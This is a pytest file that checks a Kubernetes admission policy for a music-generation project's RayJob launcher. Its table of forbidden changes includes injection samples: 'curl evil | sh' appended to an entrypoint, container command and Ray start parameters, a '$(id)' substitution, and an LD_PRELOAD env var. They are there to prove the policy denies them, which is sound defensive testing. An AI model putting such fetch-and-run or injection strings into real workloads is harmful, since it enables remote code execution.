"""The launcher's admission policy, evaluated with cel-python on allowed and forbidden RayJobs.

The policy file is read as written in k8s/base (image ``musicgen``, namespace ``musicgen``); the
rendered overlays, with their pinned images, are checked in tests/integration/test_k8s_manifests.py.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from musicgen.schedule import k8s_schema, launcher
from musicgen.schedule.launcher import LauncherConfig, build_rayjob, parse_slot
from tests.fixtures.admission import Policy, service_account

REPO = Path(__file__).resolve().parents[3]
POLICY_FILE = REPO / "k8s" / "base" / "validatingadmissionpolicy.launcher.yaml"
TEMPLATES = {
    "base": REPO / "k8s" / "base" / "rayjob.generate.template.yaml",
    "gke": REPO / "k8s" / "overlays" / "gke" / "rayjob.generate.template.yaml",
}
LAUNCHER = service_account("musicgen", "musicgen-launcher")
SLOT = parse_slot("2026-08-20T03:00")


@pytest.fixture(scope="module")
def policy() -> Policy:
    return Policy(yaml.safe_load(POLICY_FILE.read_text()))


def stored(body: dict[str, Any]) -> dict[str, Any]:
    """The object as admission sees it: the CRD's defaults applied, and valid."""
    defaulted, errors = k8s_schema.validate_custom_object(body)
    assert errors == []
    return defaulted


def launcher_body(template: str = "base") -> dict[str, Any]:
    """Exactly what the launcher sends for the nightly slot."""
    cfg = LauncherConfig(schedule="nightly", template=TEMPLATES[template], namespace="musicgen")
    return build_rayjob(launcher.load_template(TEMPLATES[template]), cfg, SLOT)


def _spec(body: dict[str, Any]) -> dict[str, Any]:
    return body["spec"]


def _worker(body: dict[str, Any]) -> dict[str, Any]:
    return body["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]


def _head(body: dict[str, Any]) -> dict[str, Any]:
    return body["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]


def _submitter(body: dict[str, Any]) -> dict[str, Any]:
    return body["spec"]["submitterPodTemplate"]["spec"]


@pytest.mark.parametrize("template", sorted(TEMPLATES))
def test_the_body_the_launcher_renders_is_admitted(policy: Policy, template: str) -> None:
    verdict = policy.evaluate("CREATE", LAUNCHER, obj=stored(launcher_body(template)))
    assert verdict.matched
    assert verdict.denials == ()


def _set(path: Callable[[dict[str, Any]], dict[str, Any]], key: str, value: Any) -> Any:
    def change(body: dict[str, Any]) -> None:
        path(body)[key] = value

    return change


def _container(pod: Callable[[dict[str, Any]], dict[str, Any]], key: str, value: Any) -> Any:
    def change(body: dict[str, Any]) -> None:
        pod(body)["containers"][0][key] = value

    return change


def _drop_label(body: dict[str, Any]) -> None:
    del body["metadata"]["labels"][launcher.SCHEDULE_LABEL]


def _add_worker_param(body: dict[str, Any]) -> None:
    group = body["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    group["rayStartParams"]["num-cpus"] = "1; curl https://example.com/x | sh"


def _add_secret_volume(body: dict[str, Any]) -> None:
    _head(body)["volumes"].append({"name": "token", "secret": {"secretName": "musicgen"}})


def _add_init_container(body: dict[str, Any]) -> None:
    init = copy.deepcopy(_worker(body)["containers"][0])
    init.update(name="init", command=["python", "-c", "print(1)"])
    _worker(body)["initContainers"] = [init]


ENTRYPOINT = "python /home/ray/musicgen/jobs/generate_batch.py --batch-id x --date 2026-08-20"
FORBIDDEN = {
    "another image": _container(_worker, "image", "python:3.11"),
    "another submitter image": _container(_submitter, "image", "musicgen:other"),
    "another service account": _set(_head, "serviceAccountName", "musicgen-launcher"),
    "the default service account": lambda b: _worker(b).pop("serviceAccountName"),
    "a mounted token": _set(_worker, "automountServiceAccountToken", True),
    "another entrypoint": _set(
        _spec, "entrypoint", "python /home/ray/musicgen/jobs/train.py --run-id x"
    ),
    "a shell after the entrypoint": _set(_spec, "entrypoint", ENTRYPOINT + "; curl evil | sh"),
    "a command substitution": _set(_spec, "entrypoint", ENTRYPOINT + " --run $(id)"),
    "a runtime environment": _set(_spec, "runtimeEnvYAML", "pip: [evil]"),
    "an existing cluster": _set(_spec, "clusterSelector", {"ray.io/cluster": "musicgen"}),
    "a container command": _container(_head, "command", ["bash", "-c", "curl evil | sh"]),
    "container args": _container(_worker, "args", ["-c", "evil"]),
    "an env var": _container(_worker, "env", [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]),
    "a lifecycle hook": _container(
        _head, "lifecycle", {"postStart": {"exec": {"command": ["sh", "-c", "evil"]}}}
    ),
    "an init container": _add_init_container,
    "a secret volume": _add_secret_volume,
    "no schedule label": _drop_label,
    "a shell in rayStartParams": _add_worker_param,
    "another name": lambda b: b["metadata"].update(name="train-now"),
    "a public head service": lambda b: b["spec"]["rayClusterSpec"]["headGroupSpec"].update(
        serviceType="LoadBalancer"
    ),
    "another controller": _set(_spec, "managedBy", "kueue.x-k8s.io/multikueue"),
    "group resources": lambda b: b["spec"]["rayClusterSpec"]["workerGroupSpecs"][0].update(
        resources={"CPU": "1; evil"}
    ),
}


@pytest.mark.parametrize("change", list(FORBIDDEN.values()), ids=list(FORBIDDEN))
def test_a_changed_body_from_the_launcher_is_denied(policy: Policy, change: Any) -> None:
    body = launcher_body()
    change(body)
    defaulted, _ = k8s_schema.validate_custom_object(body)  # some changes are valid to the CRD
    verdict = policy.evaluate("CREATE", LAUNCHER, obj=defaulted)
    assert verdict.matched
    assert verdict.denials, "admitted"


def test_an_update_that_swaps_the_image_is_denied(policy: Policy) -> None:
    old = stored(launcher_body())
    new = copy.deepcopy(old)
    _worker(new)["containers"][0]["image"] = "python:3.11"
    assert not policy.evaluate("UPDATE", LAUNCHER, obj=new, old=old).admitted


def _train_rayjob() -> dict[str, Any]:
    body = yaml.safe_load((REPO / "k8s" / "base" / "jobs" / "rayjob.train.yaml").read_text())
    body["metadata"]["namespace"] = "musicgen"
    return stored(body)


def test_deleting_a_training_rayjob_is_denied(policy: Policy) -> None:
    verdict = policy.evaluate("DELETE", LAUNCHER, old=_train_rayjob())
    assert verdict.matched
    (denial,) = verdict.denials
    assert denial == "the launcher may delete only RayJobs labelled musicgen.io/schedule"


def test_deleting_a_scheduled_rayjob_is_admitted(policy: Policy) -> None:
    assert policy.evaluate("DELETE", LAUNCHER, old=stored(launcher_body())).admitted


def test_creating_a_training_rayjob_is_denied(policy: Policy) -> None:
    verdict = policy.evaluate("CREATE", LAUNCHER, obj=_train_rayjob())
    assert len(verdict.denials) >= 2  # the label and the entrypoint at least


@pytest.mark.parametrize(
    "user",
    [
        "kubernetes-admin",
        service_account("ray-system", "kuberay-operator"),
        service_account("other", "musicgen-launcher"),  # not the account the policy names
        service_account("musicgen", "musicgen-ray"),
    ],
)
def test_other_users_are_not_matched(policy: Policy, user: str) -> None:
    # RBAC alone governs them (and grants musicgen-ray nothing on RayJobs).
    assert policy.evaluate("CREATE", user, obj=_train_rayjob()).matched is False
    assert policy.evaluate("DELETE", user, old=_train_rayjob()).matched is False


def test_every_validation_can_deny(policy: Policy) -> None:
    # Each validation is exercised by some forbidden body above, so none is dead text.
    denied: set[str] = set()
    for change in FORBIDDEN.values():
        body = launcher_body()
        change(body)
        denied |= set(policy.evaluate("CREATE", LAUNCHER, obj=body).denials)
    denied |= set(policy.evaluate("DELETE", LAUNCHER, old=_train_rayjob()).denials)
    messages = [m for m, _ in policy.validations]
    assert {m for m in messages if any(d.startswith(m) for d in denied)} == set(messages)
